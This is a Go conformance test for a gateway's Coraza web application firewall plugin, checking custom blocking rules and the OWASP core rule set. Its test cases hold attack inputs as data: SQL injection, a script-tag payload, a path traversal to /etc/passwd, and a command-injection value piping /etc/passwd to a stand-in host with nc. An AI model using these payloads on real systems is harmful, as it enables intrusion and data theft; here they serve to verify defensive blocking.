package conformance

import (
	"encoding/json"
	"io"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/loom-gateway/loom/internal/guestbuild"
	"github.com/loom-gateway/loom/internal/plugin"
	"github.com/loom-gateway/loom/internal/proxywasm"
)

// firewallRules block in each phase.
const firewallRules = `SecRuleEngine On
SecRequestBodyAccess On
SecResponseBodyAccess On
SecResponseBodyMimeType text/plain
SecRule REQUEST_HEADERS:X-Bad "@rx evil" "id:1,phase:1,deny,status:403"
SecRule REMOTE_ADDR "!@ipMatch 127.0.0.1" "id:2,phase:1,deny,status:418"
SecRule ARGS_POST:comment "@contains <script" "id:3,phase:2,deny,status:403"
SecRule RESPONSE_HEADERS:X-Leak "@streq yes" "id:4,phase:3,deny,status:502"
SecRule RESPONSE_BODY "@contains secret" "id:5,phase:4,deny,status:403"`

func coraza(s *suite) {
	s.check("Y-04", 1, "coraza-proxy-wasm (built by Go) blocks by header, by request body, by response header, blanks a response body, runs the OWASP rules; lengths stay right",
		func(t *testing.T) {
			if underRace {
				t.Skip("not run under the race detector: compiling 24 MB takes minutes there, and what runs then is what smaller plugins run")
			}
			code := guestbuild.Go(t, "testdata/coraza", "-tags=no_fs_access")
			t.Run("own rules", func(t *testing.T) { firewall(t, code) })
			t.Run("the core rule set", func(t *testing.T) { coreRuleSet(t, code) })
		})
}

// guarded serves the firewall with rules in front of a backend that answers as it is asked.
func guarded(t *testing.T, code []byte, rules string) *gateway {
	t.Helper()
	config, err := json.Marshal(map[string]any{
		"directives_map": map[string][]string{"all": strings.Split(rules, "\n")}, "default_directives": "all",
		"metric_labels": map[string]string{"owner": "coraza"},
	})
	if err != nil {
		t.Fatal(err)
	}
	g, err := tryServe(t, setup{
		plugins: []plugin.Spec{{
			Name: "coraza", Code: code, Config: string(config), Instances: 1,
			// It compiles its rules at start, and is 24 MB of code to begin with.
			Limits: proxywasm.Limits{MemoryPages: 8192, StartTimeout: patience * 3, CallTimeout: patience, CompileTimeout: patience * 10},
		}},
		backend: func(w http.ResponseWriter, r *http.Request) {
			body, _ := io.ReadAll(r.Body)
			w.Header().Set("Content-Type", "text/plain")
			w.Header().Set("X-Leak", r.URL.Query().Get("leak"))
			if text := r.URL.Query().Get("say"); text != "" {
				w.Header().Set("Content-Length", strconv.Itoa(len(text)))
				_, _ = io.WriteString(w, text)
				return
			}
			_, _ = io.WriteString(w, "got "+string(body))
		},
	})
	if err != nil {
		t.Fatal(err, g.logs.All())
	}
	return g
}

func firewall(t *testing.T, code []byte) {
	g := guarded(t, code, firewallRules)
	form := func(body string) answer {
		return g.do(t, http.MethodPost, "/", strings.NewReader(body), "Content-Type", "application/x-www-form-urlencoded")
	}
	const long = 100_000
	for name, c := range map[string]struct {
		got    answer
		status int
		body   string
	}{
		"nothing wrong":       {g.do(t, http.MethodGet, "/?say=hello", nil), 200, "hello"},
		"a header":            {g.do(t, http.MethodGet, "/?say=hello", nil, "X-Bad", "evil"), 403, ""},
		"a body":              {form("comment=%3Cscript%3E"), 403, ""},
		"a good body":         {form("comment=fine"), 200, "got comment=fine"},
		"a long good body":    {form("comment=" + strings.Repeat("x", long)), 200, "got comment=" + strings.Repeat("x", long)},
		"the end of a body":   {form("a=" + strings.Repeat("x", long) + "&comment=<script"), 403, ""},
		"a response's header": {g.do(t, http.MethodGet, "/?say=hello&leak=yes", nil), 502, ""},
	} {
		if c.got.status != c.status || c.got.body != c.body {
			t.Errorf("%s: %d %.100q, want %d %.100q", name, c.got.status, c.got.body, c.status, c.body)
		}
	}
	a := g.do(t, http.MethodGet, "/?say=a+secret+word", nil)
	if strings.Contains(a.body, "secret") || len(a.body) != len("a secret word") || a.header.Get("Content-Length") != strconv.Itoa(len(a.body)) {
		t.Errorf("a response's body: %d %v %q", a.status, a.header, a.body)
	}
}

// coreRuleSet runs the OWASP rules that the plugin brings along.
func coreRuleSet(t *testing.T, code []byte) {
	g := guarded(t, code, "Include @recommended-conf\nInclude @crs-setup-conf\nInclude @owasp_crs/*.conf\nSecRuleEngine On")
	for name, c := range map[string]struct {
		path, body string
		status     int
	}{
		"a plain request":      {"/?say=hello", "", 200},
		"SQL injection":        {"/?id=1%27%20OR%20%271%27%3D%271", "", 403},
		"cross-site scripting": {"/?q=%3Cscript%3Ealert(1)%3C/script%3E", "", 403},
		"a file of the system": {"/?file=../../../../etc/passwd", "", 403},
		"a plain form":         {"/", "name=ann&age=7", 200},
		"a shell in a form":    {"/", "cmd=;cat%20/etc/passwd%20|%20nc%20a.test%2080", 403},
	} {
		a := g.do(t, http.MethodPost, c.path, strings.NewReader(c.body), "Content-Type", "application/x-www-form-urlencoded", "User-Agent", "Mozilla/5.0")
		if a.status != c.status {
			t.Errorf("%s: %d %.100q, want %d", name, a.status, a.body, c.status)
		}
	}
}
